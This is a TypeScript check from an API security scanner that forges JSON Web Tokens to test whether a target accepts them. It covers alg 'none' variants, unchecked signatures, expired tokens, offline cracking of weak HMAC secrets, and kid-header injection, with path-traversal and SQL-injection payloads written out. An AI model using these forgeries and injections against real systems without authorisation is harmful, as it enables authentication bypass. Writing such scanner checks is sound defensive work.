// src/checks/security/jwt-weakness.ts — active: the API accepts forged JSON Web Tokens (alg "none", a signature it
// never checks, an expired token) or signs them with a weak HMAC secret cracked offline; proof is a forged token
// accepted where controls (no token, garbage signature) are refused, or the cracked secret reproducing the
// signature of a token the target issued.
import { z } from 'zod';
import type { Exchange, Operation } from '../../core/index.js';
import { defineCheck, type CandidateInput, type CheckContext } from '../kit/define.js';
import { crackHmac, decodeJwt, findJwts, forge, garbleSignature, hint, isHmac, signs, type Jwt } from './support/jwt.js';
import { header, nonce, routeOf, targetExchanges } from './support/exchanges.js';

type Kind = 'jwt-alg-none' | 'jwt-signature-not-verified' | 'jwt-weak-secret' | 'jwt-expired-accepted' | 'jwt-kid-injection';
/** Where the token travels: a header (`Authorization: Bearer <jwt>`, a raw `Authorization: <jwt>`, any other), or a cookie. */
type Carrier = { in: 'header'; name: string; scheme: string } | { in: 'cookie'; name: string };
interface Data {
  kind: Kind;
  /** Where forgeries are presented; absent for a weak secret found in a response only (proven offline). */
  probe?: string;
  token: string;
  carrier?: Carrier;
  alg?: string;
  secret?: string;
  /** For jwt-kid-injection: which KID_TRICKS entry. */
  kid?: number;
  /** Whether the probe verifies signatures (a garbage signature refused), so a forgery's acceptance means something. */
  verified?: boolean;
}

const ME = /\/(me|self|whoami|profile|account|session|user)\b/i;
const ok = (x: Exchange): boolean => (x.response?.status ?? 0) >= 200 && (x.response?.status ?? 0) < 300;
const refused = (x: Exchange): boolean => x.response !== undefined && !ok(x);
/** Sent under an identity with no credentials or cookies, so only the token given decides. */
const FORGER = 'jwt-weakness';

/** GET operations that require authentication and take no path parameters, profile-like paths first. */
export function probeOperations(ops: readonly Operation[]): Operation[] {
  return ops.filter((o) => o.method === 'GET' && o.auth === 'required' && !o.path.includes('{')).sort((a, b) => Number(ME.test(b.path)) - Number(ME.test(a.path)) || a.path.length - b.path.length);
}

/** The JWT a request presented: in a header (Authorization first; `Bearer`, another scheme or raw), else a cookie. */
export function presented(x: Exchange): { token: Jwt; carrier: Carrier } | undefined {
  const auth = (name: string): number => Number(name.toLowerCase() === 'authorization');
  const headers = [...x.request.headers].sort(([a], [b]) => auth(b) - auth(a));
  for (const [name, value] of headers) {
    if (name.toLowerCase() === 'cookie') continue;
    const m = /^(?:(\w+)\s+)?(\S+)$/.exec(value.trim());
    const t = m?.[2] ? decodeJwt(m[2]) : undefined;
    const scheme = m?.[1] ? `${m[1]} ` : '';
    if (t) return { token: t, carrier: { in: 'header', name: name.toLowerCase(), scheme } };
  }
  for (const pair of (header(x.request.headers, 'cookie') ?? '').split(';')) {
    const at = pair.indexOf('=');
    const c = at > 0 ? decodeJwt(pair.slice(at + 1).trim()) : undefined;
    if (c) return { token: c, carrier: { in: 'cookie', name: pair.slice(0, at).trim() } };
  }
  return undefined;
}

/** The token in the carrier's form: `<name>: <scheme><jwt>`, or `cookie: <name>=<jwt>`. */
const carry = (token: string, carrier: Carrier): [string, string] =>
  carrier.in === 'header' ? [carrier.name, `${carrier.scheme}${token}`] : ['cookie', `${carrier.name}=${token}`];

const sendWith = (ctx: CheckContext<unknown>, path: string, token: string | undefined, carrier: Carrier): Promise<Exchange> =>
  ctx.send({ method: 'GET', url: path, identity: FORGER, headers: token === undefined ? [] : [carry(token, carrier)] });

/** HMAC tokens the target handed out in recorded responses (any header, any body), with the exchange that did. */
function issuedTokens(ctx: CheckContext<unknown>): Array<{ token: Jwt; x: Exchange }> {
  const out = new Map<string, { token: Jwt; x: Exchange }>();
  for (const x of targetExchanges(ctx.recorded(), ctx.target.url)) {
    const headers = x.response.headers.map(([k, v]) => `${k}: ${v}`).join('\n');
    const text = `${headers}\n${x.response.bodyEncoding === 'base64' ? '' : x.response.body}`;
    for (const t of findJwts(text)) if (isHmac(t) && !out.has(t.raw)) out.set(t.raw, { token: t, x });
  }
  return [...out.values()];
}

/**
 * `kid` values that make a server that looks the key up by kid use a key the attacker knows: an empty file
 * (path traversal to /dev/null: the key is empty) or an SQL lookup that returns a chosen string.
 */
export const KID_TRICKS: ReadonlyArray<{ how: string; kid: string; secret: string }> = [
  { how: 'path traversal to /dev/null (an empty key)', kid: '../../../../../../../../dev/null', secret: '' },
  { how: "SQL injection returning the key 'vouch'", kid: "vouch-none' UNION SELECT 'vouch'-- ", secret: 'vouch' },
];

/** At most this many distinct issued tokens are cracked per scan (an uncracked HS256 token costs ~1 s of CPU). */
const MAX_CRACKS = 3;

/** The token forged for a kind, carrying a fresh `vouch` claim so an accepted token cannot be a replay. */
function forgeFor(data: Data, n: string): string {
  const t = decodeJwt(data.token)!;
  const dayAgo = Math.floor(Date.now() / 1000) - 86_400;
  const claims = { ...t.claims, vouch: n, ...(data.kind === 'jwt-expired-accepted' ? { exp: dayAgo } : {}) };
  if (data.kind === 'jwt-alg-none') return forge({ ...t.header, alg: data.alg ?? 'none' }, claims);
  const withSecret = data.kind === 'jwt-weak-secret' || data.kind === 'jwt-expired-accepted';
  if (withSecret) return forge(t.header, claims, data.secret);
  if (data.kind === 'jwt-kid-injection') {
    const trick = KID_TRICKS[data.kid ?? 0]!;
    return forge({ ...t.header, alg: 'HS256', kid: trick.kid }, claims, trick.secret);
  }
  const [h, , s] = t.raw.split('.');
  return `${h}.${Buffer.from(JSON.stringify(claims)).toString('base64url')}.${s}`; // same signature, new claims
}

const TITLES: Record<Kind, string> = {
  'jwt-alg-none': 'JWT accepted with alg "none" (no signature)',
  'jwt-signature-not-verified': 'JWT signature not verified',
  'jwt-weak-secret': 'JWT signed with a guessable HMAC secret',
  'jwt-expired-accepted': 'Expired JWT accepted',
  'jwt-kid-injection': 'JWT key chosen by the attacker through the kid header',
};

const ALGS_NONE: Record<'low' | 'default' | 'high', string[]> = { low: ['none'], default: ['none', 'None'], high: ['none', 'None', 'NONE', 'nOnE'] };

export default defineCheck({
  id: 'jwt-weakness',
  family: 'security',
  kind: 'active',
  scope: 'target',
  meta: {
    title: 'Forgeable JSON Web Tokens',
    description: 'The API accepts tokens anyone can make: signed with alg "none", with a signature it never verifies, '
      + 'with a key chosen through the kid header, or expired; or it signs them with an HMAC secret found in a list of '
      + 'weak secrets or digit runs.',
    severity: 'critical',
    cwe: 'CWE-347',
    owasp: 'A02:2021 Cryptographic Failures',
    remediation: 'Verify every token with a fixed algorithm allow-list (never "none", never taken from the token header), and sign with a random secret of at least 256 bits kept out of source control (or an asymmetric key); rotate the secret now.',
    proves: 'A forged token (fresh random claim, no valid signature from the issuer) answered 2xx on an operation that '
      + 'refuses the same request without a token and with a garbage signature; replayed with a fresh claim at '
      + 'confirmation. A weak secret no forgery can prove more (signatures unchecked, or a token seen only in a '
      + 'response): the secret reproduces the signature of a token the target issued, re-verified offline.',
  },
  options: z.strictObject({
    /** Extra secrets to try besides the built-in wordlist (tried offline only). */
    wordlist: z.array(z.string()).default([]),
  }),
  async run(ctx) {
    const probes = probeOperations(ctx.surface.operations);
    // A real token: the one an identity sends (its login ran through the engine).
    let found: { probe: Operation; token: Jwt; carrier: Carrier; valid: Exchange } | undefined;
    for (const id of ctx.identities.filter((i) => i.auth.kind !== 'none')) {
      for (const probe of probes.slice(0, 3)) {
        const x = await ctx.send({ method: 'GET', url: probe.path, identity: id.name });
        const p = presented(x);
        if (!p) break; // this identity does not present a JWT
        if (ok(x)) {
          found = { probe, ...p, valid: x };
          break;
        }
      }
      if (found) break;
    }
    const candidates: CandidateInput[] = [];
    /** A weak secret proven offline: it reproduces the signature of a token the target handed out in `x`. */
    const offline = (token: Jwt, secret: string, x: Exchange, also: string): CandidateInput => {
      const where = { ...routeOf(x.request.method, x.request.url, ctx.surface), url: x.request.url };
      return {
        operation: { method: where.method, path: where.path },
        url: where.url,
        title: TITLES['jwt-weak-secret'],
        vulnClass: 'jwt-weak-secret',
        confidence: 'tentative',
        proof: {
          summary: `the ${String(token.header.alg)} token that ${where.method} ${where.path} handed out is signed with a `
            + `weak secret (${hint(secret)}), cracked offline: HMAC with it reproduces the token's signature, so anyone `
            + `can sign tokens the API trusts${also}`,
          exchangeIds: [x.id],
          evidence: `secret ${hint(secret)}`,
          payload: `${token.raw.slice(0, token.raw.lastIndexOf('.'))}.<HMAC with the cracked secret>`,
        },
        data: { kind: 'jwt-weak-secret', token: token.raw, secret } satisfies Data,
        secrets: [secret], // kept out of the scan journal: a resume cracks it again
      };
    };
    if (!found) {
      // No identity presents a JWT: tokens the target handed out in responses can still be cracked offline.
      for (const { token, x } of issuedTokens(ctx).slice(0, MAX_CRACKS)) {
        const secret = crackHmac(token, ctx.options.wordlist);
        if (secret !== undefined) candidates.push(offline(token, secret, x, ''));
      }
      if (candidates.length) return { status: 'found', candidates };
      const none = 'and no HMAC token in a response was crackable';
      if (!probes.length) return { status: 'inconclusive', reason: `no GET operation that requires authentication and has no path parameters to present tokens to, ${none}` };
      return { status: 'inconclusive', reason: `no identity presented a JWT that an authenticated GET operation accepted (configure a login that returns one), ${none}` };
    }
    const { probe, token, carrier, valid } = found;
    const noToken = await sendWith(ctx, probe.path, undefined, carrier);
    if (!refused(noToken)) return { status: 'inconclusive', reason: `${probe.path} answered ${noToken.response?.status ?? noToken.error?.message ?? '-'} without a token, so acceptance proves nothing there` };
    const garbled = await sendWith(ctx, probe.path, garbleSignature(token), carrier);
    if (!ok(garbled) && !refused(garbled)) return { status: 'inconclusive', reason: `the garbage-signature control got no answer (${garbled.error?.message ?? '-'})` };
    const verified = refused(garbled);
    // Where the token came from: the recorded response that carried it (the login).
    const issued = targetExchanges(ctx.recorded(), ctx.target.url).find((x) => x.response.body.includes(token.raw) || x.response.headers.some(([, v]) => v.includes(token.raw)));
    const issuer = issued ? { ...routeOf(issued.request.method, issued.request.url, ctx.surface), url: issued.request.url } : undefined;
    const at = { method: 'GET', path: probe.path, url: valid.request.url };
    const candidate = (kind: Kind, x: Exchange, data: Data, summary: string, payload: string, evidence: string, where = at): CandidateInput => ({
      operation: { method: where.method, path: where.path },
      url: where.url,
      title: TITLES[kind],
      vulnClass: kind,
      confidence: 'tentative',
      proof: { summary, exchangeIds: [x.id, noToken.id, garbled.id], evidence, payload },
      data: { ...data },
      ...(data.secret !== undefined ? { secrets: [data.secret] } : {}),
    });
    const base = { probe: probe.path, token: token.raw, carrier, verified };
    const controls = `without a token → ${noToken.response!.status}`;

    if (!verified) {
      const data: Data = { ...base, kind: 'jwt-signature-not-verified' };
      const forged = forgeFor(data, nonce());
      const x = await sendWith(ctx, probe.path, forged, carrier);
      if (ok(x)) candidates.push(candidate('jwt-signature-not-verified', x, data, `GET ${probe.path} with the token's claims changed and its old signature → ${x.response!.status}; a garbage signature → ${garbled.response!.status} too; ${controls}`, forged, 'claims changed, signature unchanged: accepted'));
    } else {
      for (const alg of ALGS_NONE[ctx.strength]) {
        const data: Data = { ...base, kind: 'jwt-alg-none', alg };
        const forged = forgeFor(data, nonce());
        const x = await sendWith(ctx, probe.path, forged, carrier);
        if (!ok(x)) continue;
        candidates.push(candidate('jwt-alg-none', x, data, `GET ${probe.path} with an unsigned token (header {"alg":"${alg}"}, the user's claims plus a random one) → ${x.response!.status}; a garbage signature → ${garbled.response!.status}; ${controls}`, forged, `alg "${alg}" accepted`));
        break;
      }
    }
    // A token with a `kid`: the server looks its key up, perhaps in a file or a table the kid can steer.
    if (verified && typeof token.header.kid === 'string') {
      for (const [i, trick] of KID_TRICKS.entries()) {
        const data: Data = { ...base, kind: 'jwt-kid-injection', kid: i };
        const forged = forgeFor(data, nonce());
        const x = await sendWith(ctx, probe.path, forged, carrier);
        if (!ok(x)) continue;
        candidates.push(candidate('jwt-kid-injection', x, data, `GET ${probe.path} with an HS256 token whose kid is ${JSON.stringify(trick.kid)}, signed with ${trick.secret ? JSON.stringify(trick.secret) : 'an empty key'} → ${x.response!.status} (${trick.how}); a garbage signature → ${garbled.response!.status}; ${controls}`, forged, `kid ${JSON.stringify(trick.kid)} accepted`));
        break;
      }
    }
    // The secret is cracked offline whether or not the probe verifies signatures: a weak key is a finding either way.
    const secret = isHmac(token) ? crackHmac(token, ctx.options.wordlist) : undefined;
    if (secret !== undefined) {
      const data: Data = { ...base, kind: 'jwt-weak-secret', secret };
      if (!verified) {
        candidates.push(offline(token, secret, issued ?? valid, `; GET ${probe.path} does not verify signatures either (a garbage signature → ${garbled.response!.status})`));
      } else {
        const forged = forgeFor(data, nonce());
        const x = await sendWith(ctx, probe.path, forged, carrier);
        const claims = JSON.stringify(decodeJwt(forged)!.claims);
        const summary = `the ${String(token.header.alg)} tokens${issuer ? ` issued by ${issuer.method} ${issuer.path}` : ''} are signed with a weak secret (${hint(secret)}), cracked offline; a token forged with it (claims ${claims}) → GET ${probe.path} ${x.response?.status ?? '-'}; a garbage signature → ${garbled.response!.status}; ${controls}`;
        const c = candidate('jwt-weak-secret', x, data, summary, `${forged.slice(0, forged.lastIndexOf('.'))}.<HMAC with the cracked secret>`, `secret ${hint(secret)}`, issuer ?? at);
        if (issued) c.proof.exchangeIds.push(issued.id);
        candidates.push(c);
        if (typeof token.claims.exp === 'number') {
          const expired: Data = { ...base, kind: 'jwt-expired-accepted', secret };
          const old = forgeFor(expired, nonce());
          const y = await sendWith(ctx, probe.path, old, carrier);
          if (ok(y)) candidates.push(candidate('jwt-expired-accepted', y, expired, `GET ${probe.path} with a token signed with the cracked secret whose exp is a day in the past → ${y.response!.status}; ${controls}`, `${old.slice(0, old.lastIndexOf('.'))}.<HMAC with the cracked secret>`, 'exp a day ago: accepted'));
        }
      }
    }
    for (const { token: other, x } of issuedTokens(ctx).filter((i) => i.token.raw !== token.raw).slice(0, MAX_CRACKS)) {
      const s = crackHmac(other, ctx.options.wordlist);
      if (s !== undefined) candidates.push(offline(other, s, x, ''));
    }
    return candidates.length ? { status: 'found', candidates } : { status: 'clean' };
  },
  async confirm(candidate, ctx) {
    const data = candidate.data as Data | undefined;
    const token = data ? decodeJwt(data.token) : undefined;
    if (!data || !token) return { confirmed: false, exchangeIds: [], reason: 'the candidate lost its data' };
    if (data.kind === 'jwt-weak-secret' && data.secret !== undefined && !data.verified) {
      // Proven offline: the issued token (recorded) is re-verified with the secret; no forgery can add to that.
      if (signs(token, data.secret)) return { confirmed: true, exchangeIds: [], summary: `${candidate.proof.summary}; re-verified offline: HMAC-${String(token.header.alg).slice(2)} of the issued token with the secret equals its signature` };
      return { confirmed: false, exchangeIds: [], reason: 'the secret does not reproduce the signature on re-verification' };
    }
    if (!data.probe || !data.carrier) return { confirmed: false, exchangeIds: [], reason: 'the candidate lost its data' };
    const n = nonce();
    const x = await sendWith(ctx, data.probe, forgeFor(data, n), data.carrier);
    const control = await sendWith(ctx, data.probe, garbleSignature(token), data.carrier);
    const none = await sendWith(ctx, data.probe, undefined, data.carrier);
    const controlsHold = data.kind === 'jwt-signature-not-verified' ? refused(none) : refused(control) && refused(none);
    if (ok(x) && controlsHold) return { confirmed: true, exchangeIds: [x.id, control.id, none.id], summary: `${candidate.proof.summary}; replayed with a fresh claim (vouch: ${n}) → ${x.response!.status} while the controls were refused again` };
    return { confirmed: false, exchangeIds: [x.id, control.id, none.id], reason: ok(x) ? 'a control was accepted on replay, so acceptance proves nothing' : `the forged token got ${x.response?.status ?? '-'} on replay` };
  },
  example: { url: 'http://127.0.0.1:8080/api/users/me', summary: 'GET /api/users/me with an unsigned token (header {"alg":"none"}) → 200; a garbage signature → 401; without a token → 401' },
});

